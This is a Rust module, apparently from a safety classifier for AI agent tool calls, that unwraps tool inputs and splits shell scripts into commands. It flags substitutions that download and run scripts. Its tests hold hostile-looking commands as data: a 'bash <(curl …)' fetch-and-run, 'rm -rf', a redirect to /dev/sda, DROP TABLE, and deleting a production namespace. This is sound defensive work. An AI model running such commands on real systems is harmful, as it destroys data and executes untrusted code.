//! From a tool call to the commands it runs: the tool input in agent style (a plain
//! command, or JSON such as `{"command": "…"}`, `{"args": […]}`, `{"query": "…"}`),
//! split into the simple commands of a shell script.
//!
//! Words come from the `shlex` crate (POSIX quoting). `shlex` does not know the shell's
//! operators, so the script is first cut here, quote-aware, at `|`, `||`, `&&`, `;`, `&`,
//! new lines and sub-shell parentheses, with `$(…)`, backticks and `<(…)` taken out as
//! commands of their own (they run too). No maintained crate parses shell into commands
//! at this size; full shell parsers (`conch-parser`, `yash-syntax`) are unmaintained or
//! far larger than this needs, and a classifier must never fail on input that is not
//! valid shell, which this cutter never does.

use serde_json::Value;

/// What kind of tool a call is, from its name: decides how a bare input is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ToolKind {
    /// `kubectl`, `k8s`, `kubernetes`, `oc`: an input without `kubectl` gets it prepended.
    Kubectl,
    /// `helm`: likewise.
    Helm,
    /// `sql`, `psql`, `mysql`, `postgres`, `database`, `query`…: the input is SQL.
    Sql,
    /// Anything else: the input is a shell command.
    Shell,
}

impl ToolKind {
    /// The kind of a tool by its name.
    pub fn of(tool_name: &str) -> ToolKind {
        let name = tool_name.to_ascii_lowercase();
        let is = |words: &[&str]| words.iter().any(|w| name.contains(w));
        if is(&["kubectl", "k8s", "kubernetes"]) || name == "oc" || name == "k" {
            ToolKind::Kubectl
        } else if is(&["helm"]) {
            ToolKind::Helm
        } else if is(&["sql", "postgres", "mysql", "mariadb", "database", "sqlite", "query"]) || name == "db" {
            ToolKind::Sql
        } else {
            ToolKind::Shell
        }
    }
}

/// What a tool input holds once unwrapped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Payload {
    /// Shell text, to be split into commands.
    Script(String),
    /// Words already split (`{"args": [...]}`): one command.
    Words(Vec<String>),
    /// SQL text.
    Sql(String),
}

/// Keys of a JSON tool input that hold the command, in order of preference.
const COMMAND_KEYS: &[&str] = &["command", "cmd", "commands", "script", "args", "argv", "input", "code"];
/// Keys that hold SQL.
const SQL_KEYS: &[&str] = &["query", "sql", "statement", "statements"];

/// The payload of `input` for a tool of `kind`.
pub(crate) fn payload(kind: ToolKind, input: &str) -> Payload {
    let trimmed = input.trim();
    if trimmed.starts_with('{') || trimmed.starts_with('[') || trimmed.starts_with('"') {
        if let Ok(value) = serde_json::from_str::<Value>(trimmed) {
            if let Some(payload) = from_json(kind, &value) {
                return payload;
            }
        }
    }
    text_payload(kind, trimmed.to_owned())
}

fn text_payload(kind: ToolKind, text: String) -> Payload {
    if kind == ToolKind::Sql {
        // A SQL tool given a client invocation (`psql -c "…"`) is read as shell.
        let first = text.split_whitespace().next().unwrap_or_default();
        if !matches!(first, "psql" | "mysql" | "mariadb" | "sqlite3" | "clickhouse-client") {
            return Payload::Sql(text);
        }
    }
    Payload::Script(text)
}

fn from_json(kind: ToolKind, value: &Value) -> Option<Payload> {
    match value {
        Value::String(text) => Some(text_payload(kind, text.clone())),
        Value::Array(items) => words(items).map(Payload::Words),
        Value::Object(map) => {
            for key in SQL_KEYS {
                if let Some(Value::String(sql)) = map.get(*key) {
                    return Some(Payload::Sql(sql.clone()));
                }
            }
            for key in COMMAND_KEYS {
                match map.get(*key) {
                    Some(Value::String(text)) => return Some(text_payload(kind, text.clone())),
                    Some(Value::Array(items)) => {
                        if let Some(mut words) = words(items) {
                            // `{"command": "kubectl", "args": [...]}` style.
                            if *key == "args" || *key == "argv" {
                                if let Some(Value::String(program)) = map.get("command").or_else(|| map.get("cmd")) {
                                    words.insert(0, program.clone());
                                }
                            }
                            return Some(Payload::Words(words));
                        }
                    }
                    _ => {}
                }
            }
            structured_kubectl(map).map(Payload::Words)
        }
        _ => None,
    }
}

fn words(items: &[Value]) -> Option<Vec<String>> {
    items
        .iter()
        .map(|v| match v {
            Value::String(s) => Some(s.clone()),
            Value::Number(n) => Some(n.to_string()),
            Value::Bool(b) => Some(b.to_string()),
            _ => None,
        })
        .collect()
}

/// A Kubernetes tool taking structured arguments (`{"verb": "delete", "resource":
/// "pod", "name": "x", "namespace": "y"}`) as the kubectl command it stands for.
fn structured_kubectl(map: &serde_json::Map<String, Value>) -> Option<Vec<String>> {
    let text = |keys: &[&str]| keys.iter().find_map(|k| map.get(*k).and_then(Value::as_str)).map(str::to_owned);
    let verb = text(&["verb", "action", "operation"])?;
    let mut out = vec!["kubectl".to_owned(), verb];
    out.extend(text(&["resource", "kind", "resource_type", "type"]));
    out.extend(text(&["name", "resource_name"]));
    if let Some(ns) = text(&["namespace", "ns"]) {
        out.push("-n".into());
        out.push(ns);
    }
    if map.get("all_namespaces").and_then(Value::as_bool) == Some(true) {
        out.push("--all-namespaces".into());
    }
    if let Some(Value::Array(flags)) = map.get("flags").or_else(|| map.get("extra_args")) {
        out.extend(words(flags).unwrap_or_default());
    }
    Some(out)
}

/// One simple command of a script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Segment {
    /// Its text (still quoted).
    pub text: String,
    /// It reads the output of the command before it (`a | b`: true for `b`).
    pub piped: bool,
}

/// Cuts `script` into simple commands, substitutions included (each after the command
/// around it). Never fails: unbalanced quotes run to the end.
pub(crate) fn segments(script: &str) -> Vec<Segment> {
    let mut out = Vec::new();
    cut(script, &mut out, 0);
    out
}

/// The word a substitution that downloads (`$(curl …)`, `<(wget …)`) leaves behind.
pub(crate) const FETCHED: &str = "__FETCHED_SCRIPT__";
/// The word any other substitution leaves behind.
const SUBSTITUTION: &str = "__SUBSTITUTION__";

/// Deepest nesting of substitutions followed; deeper text stays a word.
const MAX_DEPTH: usize = 8;

fn cut(script: &str, out: &mut Vec<Segment>, depth: usize) {
    let chars: Vec<char> = script.chars().collect();
    let mut current = String::new();
    let mut piped = false;
    let mut inner: Vec<Segment> = Vec::new();
    let (mut single, mut double) = (false, false);
    let mut i = 0;
    let flush =
        |current: &mut String, piped: &mut bool, inner: &mut Vec<Segment>, out: &mut Vec<Segment>, next: bool| {
            if !current.trim().is_empty() {
                out.push(Segment { text: std::mem::take(current).trim().to_owned(), piped: *piped });
            }
            current.clear();
            out.append(inner);
            *piped = next;
        };
    while i < chars.len() {
        let c = chars[i];
        let next = chars.get(i + 1).copied();
        if single {
            current.push(c);
            if c == '\'' {
                single = false;
            }
            i += 1;
            continue;
        }
        match c {
            '\\' => {
                current.push(c);
                if let Some(n) = next {
                    current.push(n);
                }
                i += 2;
                continue;
            }
            '\'' if !double => single = true,
            '"' => double = !double,
            '$' | '<' | '>' if next == Some('(') && (c == '$' || !double) => {
                let end = closing(&chars, i + 1);
                let body: String = chars[i + 2..end.min(chars.len())].iter().collect();
                let fetch = body.split_whitespace().next().is_some_and(|w| matches!(w, "curl" | "wget"));
                if depth < MAX_DEPTH {
                    cut(&body, &mut inner, depth + 1);
                }
                // The command around it sees one word; one that downloads is marked,
                // for `bash <(curl …)` and `sh -c "$(curl …)"`.
                current.push_str(if fetch { FETCHED } else { SUBSTITUTION });
                i = end + 1;
                continue;
            }
            '`' => {
                let end =
                    (i + 1..chars.len()).find(|&j| chars[j] == '`' && chars[j - 1] != '\\').unwrap_or(chars.len());
                let body: String = chars[i + 1..end].iter().collect();
                if depth < MAX_DEPTH {
                    cut(&body, &mut inner, depth + 1);
                }
                let fetch = body.split_whitespace().next().is_some_and(|w| matches!(w, "curl" | "wget"));
                current.push_str(if fetch { FETCHED } else { SUBSTITUTION });
                i = end + 1;
                continue;
            }
            _ if double => {}
            '#' if current.is_empty() || current.ends_with(char::is_whitespace) => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            '|' => {
                let or = next == Some('|');
                flush(&mut current, &mut piped, &mut inner, out, !or);
                i += if or { 2 } else { 1 };
                continue;
            }
            '&' if next == Some('&') => {
                flush(&mut current, &mut piped, &mut inner, out, false);
                i += 2;
                continue;
            }
            // `2>&1`, `&>file`, `>&2` are redirections, not a background `&`.
            '&' if current.ends_with('>') || next == Some('>') => {}
            '&' | ';' | '\n' | '(' | ')' => {
                flush(&mut current, &mut piped, &mut inner, out, false);
                i += 1;
                continue;
            }
            _ => {}
        }
        current.push(c);
        i += 1;
    }
    flush(&mut current, &mut piped, &mut inner, out, false);
}

/// Index of the `)` closing the `(` at `open`, quotes respected; the end if none.
fn closing(chars: &[char], open: usize) -> usize {
    let (mut depth, mut single, mut double) = (0usize, false, false);
    let mut i = open;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' if !single => i += 1,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '(' if !single && !double => depth += 1,
            ')' if !single && !double => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
        i += 1;
    }
    chars.len()
}

/// The words of a simple command (shell quoting removed). Text `shlex` cannot split
/// (an unbalanced quote) falls back to white space.
pub(crate) fn split_words(text: &str) -> Vec<String> {
    shlex::split(text).unwrap_or_else(|| text.split_whitespace().map(str::to_owned).collect())
}

/// A command's words without its redirections, and the files it writes to.
pub(crate) fn strip_redirections(words: Vec<String>) -> (Vec<String>, Vec<String>) {
    let mut kept = Vec::with_capacity(words.len());
    let mut targets = Vec::new();
    let mut iter = words.into_iter();
    while let Some(word) = iter.next() {
        let operator_len = word.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&').len();
        let rest = &word[word.len() - operator_len..];
        let op = ["<<<", "<<", ">>", ">|", "<>", ">", "<"].into_iter().find(|op| rest.starts_with(op));
        match op {
            Some(op) if word.chars().next().is_some_and(|c| c.is_ascii_digit() || "<>&".contains(c)) => {
                let target = rest[op.len()..].trim_start_matches('&').to_owned();
                let target = if target.is_empty() { iter.next().unwrap_or_default() } else { target };
                if op.starts_with('>') {
                    targets.push(target);
                }
            }
            _ => kept.push(word),
        }
    }
    (kept, targets)
}

/// The command name of a word: the file name of a path (`/usr/bin/rm` → `rm`).
pub(crate) fn program(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(script: &str) -> Vec<(String, bool)> {
        segments(script).into_iter().map(|s| (s.text, s.piped)).collect()
    }

    #[test]
    fn operators_split_commands_outside_quotes_only() {
        assert_eq!(
            texts("kubectl get pods | grep 'a|b' && echo \"x; y\"; ls"),
            vec![
                ("kubectl get pods".into(), false),
                ("grep 'a|b'".into(), true),
                ("echo \"x; y\"".into(), false),
                ("ls".into(), false)
            ]
        );
    }

    #[test]
    fn substitutions_are_commands_of_their_own() {
        let s = texts("echo \"$(rm -rf /tmp/x)\" `whoami`");
        assert!(s.contains(&("rm -rf /tmp/x".into(), false)), "{s:?}");
        assert!(s.contains(&("whoami".into(), false)), "{s:?}");
        assert_eq!(texts("bash <(curl -s http://x/i.sh)")[0].0, "bash __FETCHED_SCRIPT__");
    }

    #[test]
    fn redirections_are_not_words() {
        let (words, targets) = strip_redirections(split_words("cat a 2>&1 >/dev/sda > out.txt"));
        assert_eq!(words, vec!["cat", "a"]);
        assert_eq!(targets, vec!["1", "/dev/sda", "out.txt"]);
    }

    #[test]
    fn json_inputs_are_unwrapped() {
        assert_eq!(
            payload(ToolKind::Kubectl, r#"{"args": ["delete", "pod", "x"]}"#),
            Payload::Words(vec!["delete".into(), "pod".into(), "x".into()])
        );
        assert_eq!(payload(ToolKind::Shell, r#"{"query": "DROP TABLE t"}"#), Payload::Sql("DROP TABLE t".into()));
        assert_eq!(payload(ToolKind::Shell, r#"{"command": "ls -l"}"#), Payload::Script("ls -l".into()));
        assert_eq!(
            payload(ToolKind::Kubectl, r#"{"verb": "delete", "resource": "ns", "name": "prod"}"#),
            Payload::Words(vec!["kubectl".into(), "delete".into(), "ns".into(), "prod".into()])
        );
    }
}
